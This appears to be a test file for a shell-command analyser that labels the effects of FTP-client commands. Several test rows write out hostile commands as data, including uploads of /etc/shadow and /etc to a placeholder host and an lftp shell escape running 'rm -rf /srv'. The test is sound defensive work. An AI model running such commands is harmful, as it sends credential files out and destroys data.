import { describe, expect, it } from 'vitest';
import { effectsOf } from '../../effects-of.js';

const rows: readonly (readonly [command: string, effects: readonly string[]])[] = [
  ['ftp h.example', ['network:connect h.example external', 'crypto:cleartext h.example']],
  [
    "ftp -n h.example <<< 'put /etc/shadow x'",
    [
      'network:connect h.example external sensitive',
      'crypto:cleartext h.example',
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
    ],
  ],
  [
    "lftp -e 'mirror -R /etc /up; bye' ftp.h.example",
    ['network:connect ftp.h.example external', 'read:read /etc external', 'network:send-data external'],
  ],
  ["lftp -e '!rm -rf /srv' h.example", ['network:connect h.example external', 'delete:remove /srv recursive force']],
  [
    "lftp -c 'set ssl:verify-certificate no; get a' ftps://h.example",
    ['network:connect h.example external', 'crypto:weaken h.example'],
  ],
  ["lftp -c 'rm -r /data' h.example", ['network:connect h.example external', 'delete:remove-remote h.example:/data']],
  ['lftp -f script.lftp', ['read:read script.lftp', 'opaque:unseen-script script.lftp']],
  [
    'tftp h.example -c put /etc/shadow',
    [
      'network:connect h.example external sensitive',
      'crypto:cleartext h.example',
      'read:read /etc/shadow external sensitive',
      'network:send external sensitive',
    ],
  ],
  ['tftp h.example', ['network:connect h.example external', 'crypto:cleartext h.example']],
  [
    'ncftpput h.example /up a.txt',
    [
      'network:connect h.example external',
      'read:read a.txt external',
      'network:send external',
      'crypto:cleartext h.example',
    ],
  ],
  [
    'ncftpget h.example . /a.txt',
    ['network:connect h.example external', 'network:fetch h.example external', 'crypto:cleartext h.example'],
  ],
  [
    'ncftp -p secret h.example',
    ['crypto:expose-secret in the command', 'network:connect h.example external', 'crypto:cleartext h.example'],
  ],
];

describe('ftp clients', () => {
  it.each(rows)('%s', (command, effects) => {
    expect(effectsOf(command)).toEqual(effects);
  });
});
